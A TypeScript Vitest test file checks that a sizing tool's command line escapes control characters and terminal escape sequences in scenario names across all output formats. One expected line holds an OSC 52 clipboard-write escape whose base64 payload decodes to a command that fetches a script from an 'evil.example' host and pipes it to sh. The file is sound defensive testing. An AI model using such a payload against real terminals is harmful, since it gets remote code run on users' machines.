// @vitest-environment jsdom
// (for its DOMParser: the card must parse as XML, by a real XML parser)
/**
 * Scenario text is data wherever the command line writes it (issue 25, items 1 and 5): a name holding escape
 * sequences, carriage returns, C1 controls or direction overrides never reaches the terminal, a file or a pipe
 * raw. Every format is run on a scenario whose every text field holds each such character, from a file and from
 * a share link: the only raw control characters left are the format's own line ends, the SVG card parses as
 * XML, and the plan JSON keeps every name exactly (escaped, not changed).
 */
import { describe, expect, it } from 'vitest';
import { plan } from '../engine';
import { scenarioFileText } from '../state/scenarioFile';
import { shareUrlFor } from '../state/shareLink';
import { cli } from '../../tests/fixtures/cliRun';
import {
  hostileCharacters,
  hostileScenario,
  issueScenario,
  rawHostileCharacters,
} from '../../tests/fixtures/hostileText';
import { outputFormats } from './options';

const baseUrl = 'https://tools.example/sizing/';
const files = {
  'hostile.json': scenarioFileText(hostileScenario),
  'issue.json': scenarioFileText(issueScenario),
};
const link = shareUrlFor(hostileScenario, new URL(baseUrl));

/** Raw control characters other than the format's line ends: CRLF in the CSV, LF everywhere else. */
function strayControls(format: string, text: string): string[] {
  const lineEnd = format === 'csv' ? /\r\n/g : /\n/g;
  return rawHostileCharacters(text.replace(lineEnd, ''));
}

function parsesAsXml(svg: string): boolean {
  const document = new DOMParser().parseFromString(svg, 'image/svg+xml');
  return document.getElementsByTagName('parsererror').length === 0;
}

describe('every format, on a scenario whose every text field holds each control character', () => {
  it('the fixture holds all 74 characters in the scenario’s name and in each workload’s', () => {
    const names = [hostileScenario.name ?? '', ...hostileScenario.workloads.map((w) => w.name)];
    expect(names).toHaveLength(3);
    for (const name of names) {
      expect(rawHostileCharacters(name)).toHaveLength(hostileCharacters.length);
    }
  });

  describe.each([
    ['a scenario file', ['size', 'hostile.json']],
    ['a share link', ['size', '--link', link]],
  ])('read from %s', (_source, input) => {
    it.each(outputFormats)('--format %s writes no raw control character', (format) => {
      const { code, stdout, stderr } = cli(
        [...input, '--format', format, '--base-url', baseUrl],
        files,
      );
      expect(code, stderr).toBe(0);
      expect(stdout.length).toBeGreaterThan(0);
      expect(strayControls(format, stdout)).toEqual([]);
      expect(rawHostileCharacters(stderr)).toEqual([]);
    });
  });

  it('--format svg is well-formed XML, so the card shows as an image', () => {
    const { stdout } = cli(['size', 'hostile.json', '--format', 'svg'], files);
    expect(parsesAsXml(stdout)).toBe(true);
  });

  it('--format json keeps every name exactly, escaped', () => {
    const { stdout } = cli(['size', 'hostile.json', '--format', 'json'], files);
    const document = JSON.parse(stdout) as { scenario: unknown };
    expect(document.scenario).toEqual(JSON.parse(scenarioFileText(hostileScenario)));
  });

  it('the plan text shows the characters as codes, each where it was typed', () => {
    const { stdout } = cli(['size', 'hostile.json'], files);
    const title = stdout.split('\n')[0];
    expect(title).toBe(
      `T${hostileCharacters.map((c) => `\\u${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}`).join('')}name`,
    );
  });
});

describe('the issue’s scenario: a clipboard write in its name, a false bill in a workload’s', () => {
  it('prints the real bill, and the payloads as visible codes on the lines they belong to', () => {
    const { code, stdout } = cli(['size', 'issue.json'], files);
    expect(code).toBe(0);
    const lines = stdout.split('\n');
    expect(lines[0]).toBe(
      'Team chat\\u001B]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\\u0007',
    );
    const monthly = plan(issueScenario).monthly?.totalUsd ?? 0;
    expect(monthly).toBeGreaterThan(1000);
    expect(lines.filter((line) => line.startsWith('Monthly cost:'))).toEqual([
      expect.stringMatching(/^Monthly cost: \$\d{1,3},\d{3}\/month/),
    ]);
    expect(stdout).not.toContain('\u001b');
    expect(stdout).not.toContain('\r');
  });

  it.each(['md', 'csv'])('--format %s carries no escape byte either', (format) => {
    const { stdout } = cli(['size', 'issue.json', '--format', format], files);
    expect(stdout).not.toContain('\u001b');
    expect(stdout).toContain('\\u001B');
  });
});
